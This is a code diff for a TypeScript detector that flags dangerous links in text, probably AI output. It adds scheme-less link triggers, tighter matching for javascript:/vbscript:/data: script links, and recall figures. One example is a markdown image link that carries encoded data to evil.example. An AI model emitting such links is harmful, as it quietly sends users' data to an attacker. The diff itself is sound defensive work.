@@ -6,7 +6,7 @@ import { reads } from "../../normalize.ts";
 import { type Detector, type Finding, type Trigger, withoutInner } from "../../plan.ts";
 import { openRun, openTail, withEdge } from "../edge.ts";
 import { textsParameter } from "../parameter.ts";
-import { judgeLink } from "./link.ts";
+import { type HostLists, judgeLink } from "./link.ts";
 
 const longestLink = 2_048;
 const linkUnits = /[^\s<>"'`{}|\\^\u3000-\u303f\uff00-\uffef]{1,2048}/y;
@@ -42,7 +42,14 @@ export const url: Detector = {
       "https://genai.owasp.org/llmrisk/llm05-improper-output-handling/",
       "https://www.rfc-editor.org/rfc/rfc3986",
     ],
-    measures: [],
+    measures: [
+      {
+        name: "recall",
+        value: 0.864,
+        data: "250 texts with links that carry data away, lead astray or run scripts, made up apart from the detector; 0.744 when first measured, before faults that other texts showed were mended",
+      },
+      { name: "false positive rate", value: 0, data: "300 ordinary links, made up apart from the detector" },
+    ],
     examples: [
       { text: "![x](https://evil.example/c.png?data=am9obiBzbWl0aCBhY2NvdW50IDQy)", categories: ["url.exfiltration"] },
       { text: "See https://example.com/docs?page=2 for more.", categories: [] },
@@ -60,7 +67,10 @@ export const url: Detector = {
       reads: reads.given | reads.normalAgain,
       phrases: [],
       patterns: [],
-      triggers: [{ ...linkTrigger(lists), open: openLink }, ...withEdge(scriptTriggers, openTail(64))],
+      triggers: [
+        ...[linkTrigger(lists), ...bareTriggers(lists)].map((trigger) => ({ ...trigger, open: openLink(trigger) })),
+        ...withEdge(scriptTriggers, openTail(64)),
+      ],
       sweeps: [],
       settle: withoutInner,
     };
@@ -77,28 +87,39 @@ function hostList(description: string): JsonObject {
   };
 }
 
-function linkTrigger(lists: Parameters<typeof judgeLink>[1]): Trigger {
+function linkTrigger(lists: HostLists): Trigger {
   return {
     literal: "://",
     locate: (text, end) => {
       const scheme = /(?:https?|ftp|wss?)$/i.exec(text.slice(Math.max(0, end - 8), end - 3))?.[0];
-      if (scheme === undefined) return undefined;
-      const start = end - 3 - scheme.length;
-      linkUnits.lastIndex = end;
-      const rest = (linkUnits.exec(text)?.[0] ?? "").slice(0, longestLink).replace(/[.,;:!?)\]*]+$/, "");
-      const before = text.slice(Math.max(0, start - 260), start);
-      templateLink.lastIndex = end;
-      const isTemplate = templateLink.test(text);
-      return judgeLink({ start, end: end + rest.length, rest, before, isTemplate }, lists);
+      return scheme === undefined ? undefined : judgeAt(text, end - 3 - scheme.length, end, lists);
     },
   };
+}
+
+// Pictures and pages may be named without a scheme.
+function bareTriggers(lists: HostLists): readonly Trigger[] {
+  return ["](//", 'src="//', "src='//"].map((literal) => ({
+    literal,
+    locate: (text, end) => judgeAt(text, end - 2, end, lists),
+  }));
+}
+
+// A link that starts somewhere and whose host is behind the slashes.
+function judgeAt(text: string, start: number, end: number, lists: HostLists): Finding | undefined {
+  linkUnits.lastIndex = end;
+  const rest = (linkUnits.exec(text)?.[0] ?? "").slice(0, longestLink).replace(/[.,;:!?)\]*]+$/, "");
+  const before = text.slice(Math.max(0, start - 260), start);
+  templateLink.lastIndex = end;
+  return judgeLink({ start, end: end + rest.length, rest, before, isTemplate: templateLink.test(text) }, lists);
 }
 
 const scriptTriggers: readonly Trigger[] = ["javascript:", "vbscript:", "data:text/html"].map((literal) => ({
   literal,
   locate: (text, end): Finding | undefined => {
     const start = end - literal.length;
-    if (/[A-Za-z0-9_]/.test(text[start - 1] ?? "") || !/^[^\s"'<>]{2}/.test(text.slice(end, end + 2))) return undefined;
+    const isWord = /[A-Za-z0-9_]/.test(text[start - 1] ?? "");
+    if (isWord || !/^(?:[^\s"'<>]{2}|[,;]<)/.test(text.slice(end, end + 2))) return undefined;
     const inLink = /(?:\]\(|(?:href|src|action)\s{0,3}=\s{0,3}["']?|<)$/i.test(
       text.slice(Math.max(0, start - 16), start),
     );
@@ -111,7 +132,9 @@ const openUnits = openRun(longestLink + 16);
 const longestTemplate = 640;
 
 // A place to fill in may have spaces, so a link stays open for some units behind it.
-function openLink(text: string, from: number): number {
-  const at = text.lastIndexOf("://") - 8;
-  return at >= from && at > text.length - longestTemplate - 8 ? at : openUnits(text, from);
+function openLink({ literal }: Trigger): (text: string, from: number) => number {
+  return (text, from) => {
+    const at = text.lastIndexOf(literal) - 8;
+    return at >= from && at > text.length - longestTemplate - 8 ? at : openUnits(text, from);
+  };
 }
